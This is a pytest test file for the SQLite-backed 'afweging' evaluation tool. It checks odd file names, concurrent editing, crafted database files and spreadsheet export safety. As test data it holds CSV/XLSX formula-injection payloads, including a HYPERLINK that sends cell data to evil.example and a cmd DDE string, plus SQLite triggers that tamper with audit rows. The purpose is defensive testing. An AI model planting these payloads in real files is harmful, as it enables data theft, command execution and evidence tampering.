"""Issue 14: the project file under pressure — unusual names, two editors, crafted files, journals beside it.

Every test goes the way a user goes: through the CLI (in-process ``main`` or a real process), or by opening a
real file that was crafted with the sqlite3 module, and then looks at the file itself.
"""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from evaluator.changes import RemoveAlternative, SetSetting, SetWeights, set_score
from evaluator.cli import main
from evaluator.errors import ChangeError, InputError, StaleFile, StoreError
from evaluator.store import SCHEMA_VERSION, Store
from tests.helpers import small_evaluation

ROOT = Path(__file__).resolve().parent.parent


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def project(tmp_path):
    path = tmp_path / "p.afweging"
    Store.create(path, small_evaluation(), user="tester").close()
    return path


# -- 1. every path works as named ---------------------------------------------------------------------------------

UNUSUAL = [
    "x.afweging#kopie.afweging",
    "vraag?mode=ro.afweging",
    "pct%20.afweging",
    "pct%2.afweging",
    "met spatie.afweging",
    "Ünïcødé — één.afweging",
    "regel\neinde.afweging",
    "punt;komma.afweging",
    "ster*.afweging",
    "a&b=c.afweging",
    "haak[1].afweging",
    "#begin.afweging",
    "kolon:naam.afweging",
]


@pytest.mark.parametrize("name", UNUSUAL, ids=lambda n: repr(n))
def test_unusual_names_open_the_file_they_name(capsys, tmp_path, name):
    # A decoy that a mis-built URI would open instead (the name cut at '#' or '?', or '%20' decoded).
    decoy = tmp_path / "x.afweging"
    Store.create(decoy, small_evaluation()).close()
    decoy_digest = _digest(decoy)
    target = tmp_path / name
    code, out, err = _cli(capsys, "new", target, "--sample", "--title", "het echte bestand")
    assert code == 0, err
    code, out, err = _cli(capsys, "rank", target, "--format", "json")
    assert code == 0, err
    ballot = tmp_path / "b.xlsx"
    code, out, err = _cli(
        capsys, "ballot", "export", target, "--participant", "Anna", "--add", "--out", ballot
    )
    assert code == 0, err
    with Store.open(target, readonly=True) as st:
        assert st.evaluation.title == "het echte bestand"
        assert [p.name for p in st.evaluation.participants] == ["Anna"]
        assert st.audit(limit=1)[0].reason == "ballot export"
    assert _digest(decoy) == decoy_digest
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted({"x.afweging", name, "b.xlsx"})


@pytest.mark.parametrize("folder", ["Team #2", "100%25 zeker", "vraag?", "map met spatie"])
def test_a_folder_with_an_unusual_name_works_and_gets_no_stray_file(capsys, tmp_path, folder):
    where = tmp_path / folder
    where.mkdir()
    code, _, err = _cli(capsys, "new", where / "p.afweging", "--sample")
    assert code == 0, err
    code, _, err = _cli(capsys, "rank", where / "p.afweging")
    assert code == 0, err
    assert sorted(p.name for p in tmp_path.iterdir()) == [folder]
    assert [p.name for p in where.iterdir()] == ["p.afweging"]


@pytest.mark.parametrize(
    "absolute, sep, uri",
    [
        ("/home/a/Team #2/x?.afweging", "/", "file:///home/a/Team%20%232/x%3F.afweging"),
        ("/tmp/pct%20.afweging", "/", "file:///tmp/pct%2520.afweging"),
        ("C:\\Users\\a b\\x#1.afweging", "\\", "file:///C:/Users/a%20b/x%231.afweging"),
        ("\\\\server\\share\\Team #2\\p.afweging", "\\", "file:////server/share/Team%20%232/p.afweging"),
    ],
    ids=["posix", "percent", "windows-drive", "windows-share"],
)
def test_file_uris_on_every_platform(absolute, sep, uri):
    """SQLite takes ``file:///C:/...`` as a drive path and refuses an authority, so a share is ``file:////``."""
    from evaluator.dbfile import file_uri

    assert file_uri(absolute, sep) == uri


def test_the_hash_name_through_a_real_process(tmp_path):
    plain = tmp_path / "x.afweging"
    Store.create(plain, small_evaluation()).close()
    before = _digest(plain)
    odd = tmp_path / "x.afweging#kopie.afweging"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    run = lambda *a: subprocess.run(  # noqa: E731
        [sys.executable, "-m", "evaluator", *map(str, a)],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
    )
    made = run("new", odd.name, "--sample")
    assert made.returncode == 0, made.stderr
    ranked = run("rank", odd.name, "--format", "json")
    assert ranked.returncode == 0, ranked.stderr
    names = {a["name"] for a in json.loads(ranked.stdout)["alternatives"]}
    assert len(names) > 3  # the sample's alternatives, not the three of the decoy
    assert _digest(plain) == before


# -- 2. two editors of one file -----------------------------------------------------------------------------------


def test_an_editor_with_an_old_state_is_refused_and_writes_nothing(project):
    a, b = Store.open(project), Store.open(project)  # B opened earlier than A's change
    a.apply(RemoveAlternative("teams"))
    n = a.audit_count()
    with pytest.raises(StaleFile, match="another program changed this file since you opened it") as info:
        b.apply(set_score(b.evaluation, "teams", "S1", 3))
    assert str(project) in str(info.value) and "\n" not in str(info.value)
    assert isinstance(
        info.value, ChangeError
    )  # the GUI's existing handler shows it; nothing on the undo stack
    assert b.evaluation.alternative("teams")  # B's state is as it was until it reloads
    assert b.audit_count() == n
    ev = b.reload()
    assert [x.id for x in ev.alternatives] == ["opendesk", "nextcloud"]
    b.apply(set_score(b.evaluation, "opendesk", "S1", 2))  # after reloading, B's changes go in again
    a.close()
    b.close()
    with Store.open(project) as st:  # the file opens: no orphan row
        assert st.evaluation.assessment("opendesk", "S1").value == 2
        assert [x.id for x in st.evaluation.alternatives] == ["opendesk", "nextcloud"]


def test_a_change_from_the_cli_makes_the_open_window_stale(project, capsys):
    gui = Store.open(project)
    assert main(["ballot", "export", str(project), "--participant", "Bram", "--add", "--out",
                 str(project.parent / "b.xlsx")]) == 0  # fmt: skip
    err = capsys.readouterr().err
    if gui.others_open is not None:  # the CLI warns that a window has the file open
        assert err == f"afweging: note: {project} is also open in another window or program\n"
    with pytest.raises(StaleFile):
        gui.apply(SetSetting("title", "oud"))
    gui.close()
    with Store.open(project, readonly=True) as st:
        assert st.evaluation.title == "Test" and [p.name for p in st.evaluation.participants] == ["Bram"]


def test_a_replaced_file_is_noticed(project, tmp_path):
    gui = Store.open(project)
    other = tmp_path / "other.afweging"
    Store.create(other, small_evaluation()).close()
    os.replace(other, project)  # e.g. an import --force, or a copy from a share
    with pytest.raises(StaleFile, match="replaced"):
        gui.apply(SetSetting("title", "verloren"))
    gui.reload()
    gui.apply(SetSetting("title", "bewaard"))
    gui.close()
    with Store.open(project, readonly=True) as st:
        assert st.evaluation.title == "bewaard"


def test_a_write_that_changed_nothing_does_not_make_an_editor_stale(project):
    a, b = Store.open(project), Store.open(project)
    con = sqlite3.connect(project, isolation_level=None)
    con.execute(f"PRAGMA user_version = {SCHEMA_VERSION}")  # a commit, but no change to the evaluation
    con.close()
    a.apply(SetSetting("title", "een"))
    with pytest.raises(StaleFile):
        b.apply(SetSetting("title", "twee"))
    a.close()
    b.close()


def test_editors_see_each_other(project):
    with Store.open(project) as a:
        if a.others_open is None:
            pytest.skip("no open file description locks on this system")
        assert a.others_open is False
        with Store.open(project, readonly=True):  # a reader (rank, export) is not an editor
            assert a.others_open is False
        with Store.open(project) as b:
            assert a.others_open is True and b.others_open is True
        assert a.others_open is False


TWO_PROCESS_EDITOR = r"""
import sys, time
from evaluator.changes import set_score
from evaluator.errors import StaleFile
from evaluator.store import Store

st = Store.open(sys.argv[1])
print("open", st.others_open, flush=True)
sys.stdin.readline()  # the other process removes an alternative now
try:
    st.apply(set_score(st.evaluation, "teams", "S1", 3))
    print("written", flush=True)
except StaleFile as exc:
    print("stale", exc, flush=True)
    st.reload()
    print("reloaded", [a.id for a in st.evaluation.alternatives], flush=True)
st.close()
"""


def test_two_processes_editing_one_file(project):
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    child = subprocess.Popen(
        [sys.executable, "-c", TWO_PROCESS_EDITOR, str(project)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
    )  # fmt: skip
    assert child.stdout is not None and child.stdin is not None
    first = child.stdout.readline().split()
    assert first[0] == "open", child.stderr.read() if child.stderr else ""
    with Store.open(project) as me:
        if first[1] != "None":
            assert me.others_open is True
        me.apply(RemoveAlternative("teams"))
        child.stdin.write("go\n")
        child.stdin.flush()
        out, err = child.communicate(timeout=60)
    assert child.returncode == 0, err
    lines = out.splitlines()
    assert lines[0].startswith("stale ") and "another program changed this file" in lines[0]
    assert lines[1] == "reloaded ['opendesk', 'nextcloud']"
    with Store.open(project) as st:
        assert [a.id for a in st.evaluation.alternatives] == ["opendesk", "nextcloud"]
        assert st.integrity_check() == "ok"


def test_a_file_locked_by_another_program_says_so_and_changes_nothing(project, monkeypatch):
    from evaluator import dbfile

    monkeypatch.setattr(dbfile, "BUSY_SECONDS", 0.2)  # how long to wait, not what happens
    st = Store.open(project)
    holder = sqlite3.connect(project, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")  # another program in the middle of a long write
    try:
        with pytest.raises(StoreError, match="in use by another program.*try again.*nothing was changed"):
            st.apply(SetWeights({"S1": 70}))
        assert st.evaluation.weights["S1"] == 50
        with pytest.raises(InputError, match="in use by another program"):
            Store.open(project)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    st.apply(SetWeights({"S1": 70}))  # once it is free, the change goes in
    st.close()


# -- 3. crafted project files -------------------------------------------------------------------------------------


def _craft(path: Path, *statements: str) -> None:
    con = sqlite3.connect(path, isolation_level=None)
    for sql in statements:
        con.execute(sql)
    con.close()


def test_triggers_in_a_project_are_refused_before_anything_runs(tmp_path, capsys):
    """The attack of the issue: triggers rewrote imported weights and erased audit rows while a command said OK."""
    path = tmp_path / "p.afweging"
    Store.create(path, small_evaluation()).close()
    with Store.open(path) as st:
        st.apply(SetWeights({"S1": 40}))
    _craft(
        path,
        "CREATE TRIGGER w AFTER INSERT ON audit BEGIN UPDATE weights SET value = 99; END",
        "CREATE TRIGGER e AFTER INSERT ON audit BEGIN DELETE FROM audit WHERE seq < new.seq; END",
    )
    before = _digest(path)
    code, _, err = _cli(capsys, "ballot", "export", path, "--participant", "Eva", "--add", "--out",
                        tmp_path / "b.xlsx")  # fmt: skip
    assert code == 2
    assert "holds a trigger" in err and str(path) in err and err.count("\n") == 1
    for readonly in (True, False):
        with pytest.raises(InputError, match="holds a trigger 'e'"):
            Store.open(path, readonly=readonly)
    assert _digest(path) == before
    assert not (tmp_path / "b.xlsx").exists()


@pytest.mark.parametrize(
    "statements, message",
    [
        (["CREATE VIEW v AS SELECT 1"], "holds a view 'v'"),
        (["CREATE TABLE extra (x)"], "holds a table 'extra'"),
        (["CREATE INDEX i ON weights (value)"], "holds an index 'i'"),
        (["DROP TABLE participants"], "the table 'participants' is missing"),
        (
            [
                "ALTER TABLE alternatives RENAME TO old",
                "CREATE TABLE alternatives (id TEXT PRIMARY KEY COLLATE NOCASE, position INTEGER NOT NULL, "
                "data TEXT NOT NULL)",
                "INSERT INTO alternatives SELECT * FROM old",
                "DROP TABLE old",
            ],
            "the table 'alternatives' is defined differently",
        ),
    ],
    ids=["view", "table", "index", "missing", "collation"],
)
def test_only_afwegings_own_schema_is_accepted(project, statements, message):
    _craft(project, *statements)
    before = _digest(project)
    for readonly in (True, False):
        with pytest.raises(InputError, match=message):
            Store.open(project, readonly=readonly)
    assert _digest(project) == before


def test_a_recursive_view_cannot_make_rank_hang(project):
    _craft(
        project,
        "DROP TABLE criteria",
        "CREATE VIEW criteria AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
        "SELECT 'c' || n AS id, n AS position, '{}' AS data FROM r",
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run(  # a hang is a failure after 120 s, not a frozen test run
        [sys.executable, "-m", "evaluator", "rank", str(project)], capture_output=True, text=True, env=env,
        timeout=120,
    )  # fmt: skip
    assert proc.returncode == 2
    assert "holds a view 'criteria'" in proc.stderr and proc.stderr.count("\n") == 1


def test_a_huge_cell_is_refused_without_filling_the_memory(project):
    if not Path("/proc/self/status").exists():
        pytest.skip("reads the peak memory from /proc")
    _craft(project, "UPDATE settings SET value = zeroblob(48 * 1024 * 1024) WHERE name = 'title'")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    probe = (  # VmHWM: this process's own peak (ru_maxrss would include what it inherited from pytest)
        "import re, sys\nfrom evaluator.cli import main\ncode = main(['rank', sys.argv[1]])\n"
        "status = open('/proc/self/status').read()\n"
        "print(re.search(r'VmHWM:\\s*(\\d+)', status).group(1), file=sys.stderr)\nsys.exit(code)\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", probe, str(project)], capture_output=True, text=True, env=env
    )
    message, peak_kib = proc.stderr.strip().splitlines()
    assert proc.returncode == 2
    assert "holds a value larger than 32 MB" in message and str(project) in message
    assert int(peak_kib) < 48 * 1024  # less than the cell itself: it was never read


def test_damage_is_reported_in_one_line(project):
    data = bytearray(project.read_bytes())
    page = int.from_bytes(data[16:18], "big")
    for p in range(1, len(data) // page):  # scramble every b-tree page's cell pointers but the first
        data[p * page + 8 : p * page + 40] = b"\x07" * 32
    project.write_bytes(bytes(data))
    with pytest.raises(InputError) as info:
        Store.open(project)
    assert "\n" not in info.value.line() and "damaged" in info.value.line()


# -- 4. journals beside the file ----------------------------------------------------------------------------------

DIE_MID_CHANGE = r"""
import os, sqlite3, sys
con = sqlite3.connect(sys.argv[1], isolation_level=None)
con.execute("PRAGMA cache_size = 1")  # spill: the journal is synced and the file half-written before the end
con.execute("BEGIN")
con.execute("UPDATE settings SET value = '\"half-written\"' WHERE name = 'title'")
con.execute("INSERT INTO meta VALUES ('pad', randomblob(300000))")
os._exit(0)
"""


def _die_mid_change(path: Path) -> Path:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    subprocess.run([sys.executable, "-c", DIE_MID_CHANGE, str(path)], check=True, env=env)
    journal = Path(f"{path}-journal")
    assert journal.stat().st_size > 1000
    return journal


def test_a_read_only_open_after_a_crash_reads_the_committed_state_and_writes_nothing(project, capsys):
    journal = _die_mid_change(project)
    file_before, journal_before = _digest(project), _digest(journal)
    code, out, err = _cli(capsys, "rank", project, "--format", "json")
    assert code == 0, err
    with Store.open(project, readonly=True) as st:
        assert st.evaluation.title == "Test"
    assert (_digest(project), _digest(journal)) == (file_before, journal_before)
    with Store.open(project) as st:  # opened for writing, the crash is rolled back for good
        assert st.evaluation.title == "Test" and st.integrity_check() == "ok"
    assert sorted(p.name for p in project.parent.iterdir()) == [project.name]


DIE_CREATING_A_TABLE = r"""
import os, sqlite3, sys
con = sqlite3.connect(sys.argv[1], isolation_level=None)
con.execute("CREATE TABLE t (x)")
con.execute("PRAGMA cache_size = 1")
con.execute("BEGIN")
con.execute("CREATE TABLE u (y)")  # page 1 (the schema) is journaled first
con.execute("INSERT INTO t VALUES (randomblob(300000))")
os._exit(0)
"""


def _foreign_journal(kind: str, tmp_path: Path) -> Path:
    other = tmp_path / "other.afweging"
    if kind == "larger project":
        from tests.hardening_helpers import make_evaluation

        Store.create(other, make_evaluation(30, 40, seed=4)).close()
        return _die_mid_change(other)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    subprocess.run([sys.executable, "-c", DIE_CREATING_A_TABLE, str(other)], check=True, env=env)
    return Path(f"{other}-journal")


@pytest.mark.parametrize(
    "kind, why",
    [("larger project", "left by a larger file"), ("other database", "not an Afweging project")],
)
def test_a_journal_from_another_file_is_refused_and_nothing_changes(tmp_path, capsys, kind, why):
    mine = tmp_path / "mine.afweging"
    Store.create(mine, small_evaluation()).close()
    with Store.open(mine) as st:
        for v in (10, 20, 30):
            st.apply(SetWeights({"S1": v}))
    journal = tmp_path / "mine.afweging-journal"
    os.replace(_foreign_journal(kind, tmp_path), journal)
    before = (_digest(mine), _digest(journal))
    code, _, err = _cli(capsys, "rank", mine)
    assert code == 2 and err.count("\n") == 1, err
    assert "has a journal beside it that does not fit" in err and why in err and "nothing was changed" in err
    with pytest.raises(InputError, match="journal beside it that does not fit"):
        Store.open(mine)
    assert (_digest(mine), _digest(journal)) == before
    journal.unlink()  # the advice: move it away, and the file opens as it is
    with Store.open(mine, readonly=True) as st:
        assert st.evaluation.weights["S1"] == 30


@pytest.mark.parametrize("readonly", [True, False])
def test_a_newer_file_with_its_own_journal_is_left_as_it_was(project, readonly):
    _craft(project, f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    journal = _die_mid_change(project)
    before = (_digest(project), _digest(journal))
    with pytest.raises(InputError, match="newer Afweging.*The file was not changed"):
        Store.open(project, readonly=readonly)
    assert (_digest(project), _digest(journal)) == before


def test_a_wal_mode_file_is_refused_unread(project):
    _craft(project, "PRAGMA journal_mode = WAL")
    before = _digest(project)
    with pytest.raises(InputError, match="WAL mode"):
        Store.open(project, readonly=True)
    assert _digest(project) == before
    assert sorted(p.name for p in project.parent.iterdir()) == [project.name]


# -- 5. names that a spreadsheet would run ------------------------------------------------------------------------

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
        "'=al geëscaped", "'s-Hertogenbosch", "gewoon"]  # fmt: skip


def _evil_csv(tmp_path: Path) -> Path:
    src = tmp_path / "evil.csv"
    with open(src, "w", newline="", encoding="utf-8") as f:
        import csv

        w = csv.writer(f)
        w.writerow(["alternative", "=1+1", "@kosten", "-korting"])
        w.writerow(["objective", "max", "min", "max"])
        w.writerow(["weight", 0.5, 0.25, 0.25])
        for i, name in enumerate(EVIL):
            w.writerow([name, i, -1.5 - i, 3])
    return src  # (the reader takes an apostrophe before =, +, -, @ as the escape: "'=al" is read as "=al")


def test_exported_csv_and_xlsx_hold_text_not_formulas_and_read_back_the_same(tmp_path, capsys):
    import csv

    import openpyxl

    src = _evil_csv(tmp_path)
    project = tmp_path / "p.afweging"
    assert _cli(capsys, "import", src, "--out", project)[0] == 0
    with Store.open(project, readonly=True) as st:
        names = [a.name for a in st.evaluation.alternatives]
        criteria = [c.name for c in st.evaluation.criteria]
    assert _cli(capsys, "export", project, "--out", tmp_path / "out.csv")[0] == 0
    assert _cli(capsys, "export", project, "--out", tmp_path / "out.xlsx")[0] == 0

    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell  # OWASP: no cell a spreadsheet would evaluate
            if cell.startswith("-"):
                float(cell)  # a negative number stays a number
    assert rows[3][0] == "'" + EVIL[0] and rows[3][2] == repr(-1.5)

    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    ws = wb.active
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                assert cell.data_type == "s" and cell.quotePrefix
    assert ws["A4"].value == EVIL[0]
    assert isinstance(ws["C4"].value, float) and ws["C4"].value == -1.5

    code, out, _ = _cli(capsys, "rank", project, "--format", "csv")  # rank's CSV on stdout too
    assert code == 0 and f"'{EVIL[0]}" in out.replace('""', '"')
    assert not any(line.startswith(("=", "+", "-", "@", '"=')) for line in out.splitlines())

    for out in ("out.csv", "out.xlsx"):  # the round trip keeps every name
        again = tmp_path / f"again-{out}.afweging"
        code, _, err = _cli(capsys, "import", tmp_path / out, "--out", again)
        assert code == 0, err
        with Store.open(again, readonly=True) as st:
            assert [a.name for a in st.evaluation.alternatives] == names
            assert [c.name for c in st.evaluation.criteria] == criteria


def test_a_ballot_with_formula_like_names_is_text_and_imports(tmp_path, capsys):
    import openpyxl

    from evaluator.changes import UpdateCriterion

    project = tmp_path / "p.afweging"
    ev = small_evaluation()
    with Store.create(project, ev) as st:
        st.apply(SetSetting("title", '=HYPERLINK("http://evil.example")'))
        c = st.evaluation.criterion("S1")
        from dataclasses import replace

        st.apply(UpdateCriterion(replace(c, name={"nl": "=cmd|' /C calc'!A0", "en": "@x"},
                                         description={"nl": "+1", "en": "-1"})))  # fmt: skip
    ballot = tmp_path / "b.xlsx"
    code, _, err = _cli(
        capsys, "ballot", "export", project, "--participant", "Anna", "--add", "--out", ballot, "--lang", "nl"
    )  # a Dutch ballot: --lang defaults to the session's language
    assert code == 0, err
    wb = openpyxl.load_workbook(ballot)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    ws = wb.worksheets[0]
    assert ws["C2"].value == "=cmd|' /C calc'!A0" and ws["C2"].quotePrefix
    for i in range(2, 2 + len(ev.criteria)):
        ws.cell(i, 5).value = 10 * i
    wb.save(ballot)
    code, out, err = _cli(capsys, "ballot", "import", project, ballot)
    assert code == 0, err


# -- 6. small things: the signing secret, a full disk -----------------------------------------------------------


def test_the_signing_password_is_not_passed_on_to_child_processes(project, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("AFWEGING_TEST_PW", "geheim")
    code, _, err = _cli(capsys, "report", project, "--out", tmp_path / "m.pdf", "--sign", tmp_path / "none.p12",
                        "--password-env", "AFWEGING_TEST_PW")  # fmt: skip
    assert code == 2 and err.count("\n") == 1
    assert "AFWEGING_TEST_PW" not in os.environ
    child = subprocess.run([sys.executable, "-c", "import os; print(os.environ.get('AFWEGING_TEST_PW'))"],
                           capture_output=True, text=True)  # fmt: skip
    assert child.stdout.strip() == "None"


DISK_FULL = r"""
import resource, signal, sys
from evaluator.changes import SetSetting
from evaluator.errors import StoreError
from evaluator.store import Store

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing
st = Store.open(sys.argv[1])
size = __import__("os").path.getsize(sys.argv[1])
resource.setrlimit(resource.RLIMIT_FSIZE, (size, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))
try:
    st.apply(SetSetting("decision", "x" * 400_000))
    print("written")
except StoreError as exc:
    print("refused", exc)
print("title", st.evaluation.decision == "")
"""


def test_a_full_disk_during_a_change_says_so_and_changes_nothing(project):
    before = _digest(project)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run(
        [sys.executable, "-c", DISK_FULL, str(project)], capture_output=True, text=True, env=env
    )
    assert proc.returncode == 0, proc.stderr
    first, second = proc.stdout.splitlines()
    assert first.startswith("refused ") and "nothing was changed" in first and "\n" not in first
    assert "cannot be written: the disk is full" in first
    assert second == "title True"
    with Store.open(project) as st:
        assert st.integrity_check() == "ok" and st.evaluation.decision == ""
    assert _digest(project) == before


def test_ballot_import_into_a_busy_file_says_it_is_in_use(tmp_path, capsys, monkeypatch):
    import openpyxl

    from evaluator import dbfile

    project = tmp_path / "p.afweging"
    Store.create(project, small_evaluation()).close()
    ballot = tmp_path / "b.xlsx"
    assert (
        _cli(capsys, "ballot", "export", project, "--participant", "Anna", "--add", "--out", ballot)[0] == 0
    )
    wb = openpyxl.load_workbook(ballot)
    for i in range(2, 5):
        wb.worksheets[0].cell(i, 5).value = 50
    wb.save(ballot)
    monkeypatch.setattr(dbfile, "BUSY_SECONDS", 0.2)
    holder = sqlite3.connect(project, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # readers may read, nobody else may write
    try:
        code, _, err = _cli(capsys, "ballot", "import", project, ballot)
        assert code == 2 and err.count("\n") == 1
        assert "in use by another program" in err and "do not fit" not in err
    finally:
        holder.execute("ROLLBACK")
        holder.close()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write anywhere")
def test_a_read_only_file_says_it_cannot_be_written(project, capsys):
    project.chmod(0o444)
    project.parent.chmod(0o555)
    try:
        before = _digest(project)
        code, _, err = _cli(capsys, "ballot", "export", project, "--participant", "Anna", "--add", "--out",
                            project.parent.parent / f"{project.parent.name}-b.xlsx")  # fmt: skip
        assert code == 2 and err.count("\n") == 1 and "cannot be written" in err and "internal" not in err
        assert _digest(project) == before
    finally:
        project.parent.chmod(0o755)
        project.chmod(0o644)


@pytest.mark.parametrize(
    "column, value",
    [("change", "[" * 50_000), ("before", "kapot"), ("after", "[1, 2]"), ("user", b"\xff\x00")],
    ids=["nested", "not-json", "not-an-object", "not-text"],
)
def test_a_damaged_audit_entry_is_one_clear_line(project, tmp_path, capsys, column, value):
    with Store.open(project) as st:
        st.apply(SetSetting("title", "Twee"))
    _craft(project)
    con = sqlite3.connect(project, isolation_level=None)
    con.execute(f"UPDATE audit SET {column} = ? WHERE seq = (SELECT max(seq) FROM audit)", (value,))
    con.close()
    with (
        Store.open(project, readonly=True) as st,
        pytest.raises(InputError, match=r"audit entry 2 is damaged"),
    ):
        st.audit()
    code, _, err = _cli(capsys, "report", project, "--out", tmp_path / "m.pdf")
    assert code == 2 and err.count("\n") == 1 and "audit entry 2 is damaged" in err and "internal" not in err
